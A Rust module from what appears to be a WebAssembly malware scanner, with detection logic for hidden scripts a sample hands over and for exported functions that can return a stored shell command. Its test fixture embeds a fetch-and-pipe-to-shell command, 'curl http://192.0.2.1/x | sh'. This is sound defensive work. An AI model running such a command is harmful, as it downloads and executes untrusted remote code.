//! What a sample carries to whoever calls it: a script that it handed over and that nobody sees in its file;
//! and what an export could give back, and did not: a command whose address stands in its code.
//!
//! What exports returned is looked at in the run (`sandbox::returned`), and rules speak of pages, commands
//! and programs. A script for itself is none of these: what makes scripts of other texts hands them over too.
//! Of such the words stand in what it was given or in its file.
//!
//! An export that gives one text for another argument, at another time, has the address of each in its code.
//!
//! Costs a search in the file for some words of each script, and one walk over the code of the exported
//! functions that return a number.

use std::collections::{BTreeSet, HashSet};

use wasmparser::Operator;

use super::{
    correlations::{gives_data, text_of},
    limits::{CARRIED, LINE, WORD, WORDS},
    operators::for_each_operator,
    seen::Code,
    text,
    weights::Weighed,
};
use crate::{
    module::{FuncIndex, view},
    rules::Facts,
    sandbox::{Contents, Returned, Run, is_drivers},
};

/// Why what is handed over forbids CLEAN, if it does.
pub(super) fn lack(code: &Code<'_>) -> Option<String> {
    hidden(code.facts).or_else(|| could_give(code))
}

/// A script that was handed over, of whose words most stand neither in the file nor in what the host gave.
fn hidden(facts: &Weighed<'_>) -> Option<String> {
    let run = facts.run?;
    let mut scripts = run.returned.iter().filter(|one| one.contents == Contents::Script);
    let script = scripts.find(|one| is_hidden(facts, run, &String::from_utf8_lossy(&one.bytes)))?;
    let text = String::from_utf8_lossy(&script.bytes);
    Some(format!("it hands over a script that its file hides: {}", text::quoted(&text)))
}

fn is_hidden(facts: &Weighed<'_>, run: &Run, script: &str) -> bool {
    let words = script.split(|letter: char| !letter.is_ascii_alphanumeric());
    let words: BTreeSet<_> = words.filter(|word| word.len() >= WORD).take(WORDS).collect();
    let given = run.calls.iter().filter(|call| gives_data(facts, call));
    let given: Vec<_> =
        given.flat_map(|call| &call.args).filter_map(|arg| text_of(arg.points_at.as_ref()?)).collect();
    let is_known = |word: &&&str| {
        let word = **word;
        text::in_bytes(facts.wasm, word.as_bytes())
            || is_drivers(word)
            || given.iter().any(|text| text.contains(word))
    };
    !words.is_empty() && 2 * words.iter().filter(is_known).count() < words.len()
}

/// Why what exports could give back forbids CLEAN, if it does.
fn could_give(code: &Code<'_>) -> Option<String> {
    let facts: &Facts<'_> = code.facts;
    let module = code.module()?;
    let (mut walked, mut looked) = (HashSet::new(), HashSet::new());
    for export in facts.view.exports.iter().filter(|export| export.kind == view::ExternKind::Function) {
        let func = FuncIndex(export.index);
        let gives = |function: &view::Function| function.ty.contains("result i32");
        if !facts.view.function(func).is_some_and(gives) {
            continue;
        }
        if !walked.insert(func) {
            continue;
        }
        let mut found = None;
        for_each_operator(module, func, |_, operator| {
            if let Operator::I32Const { value } = *operator
                && found.is_none()
                && looked.len() < CARRIED
                && looked.insert(value)
            {
                found = command_at(facts, u64::from(value as u32));
            }
        });
        if let Some(command) = found {
            let (name, command) = (text::quoted(&export.name), text::quoted(&command));
            return Some(format!("the export {name} can give back a command: {command}"));
        }
    }
    None
}

/// The command that lies at an address before anything runs, if one does.
fn command_at(facts: &Facts<'_>, address: u64) -> Option<String> {
    let data = facts.view.data_at(facts.wasm, address)?;
    let data = data.get(..LINE).unwrap_or(data);
    let line = data.split(|byte| *byte == 0).next()?;
    let returned = Returned::of(line.to_vec()).filter(|found| found.contents == Contents::Command)?;
    String::from_utf8(returned.bytes).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{module::view::View, passes::Dynamic, verdict::weights::Weighed};

    #[test]
    fn a_command_is_found_at_its_address_and_nowhere_else() {
        let module = |address: u32| {
            let text = format!(
                r#"(module (memory 1) (data (i32.const 64) "nothing\00curl http://192.0.2.1/x | sh\00")
                    (func (export "f") (result i32) (i32.const {address})))"#
            );
            wat::parse_str(text).expect("a module")
        };
        for (address, is_one) in [(72, true), (64, false), (0, false), (99, false), (500, false)] {
            let wasm = module(address);
            let (view, dynamic) = (View::of(&wasm), Dynamic::default());
            let facts = Facts {
                wasm: &wasm,
                view: &view,
                run: None,
                dynamic: &dynamic,
                prediction: None,
                flows: None,
            };
            let weighed = Weighed::from(&facts);
            let found = lack(&Code::of(&weighed));
            assert_eq!(found.is_some(), is_one, "{address}: {found:?}");
        }
    }
}
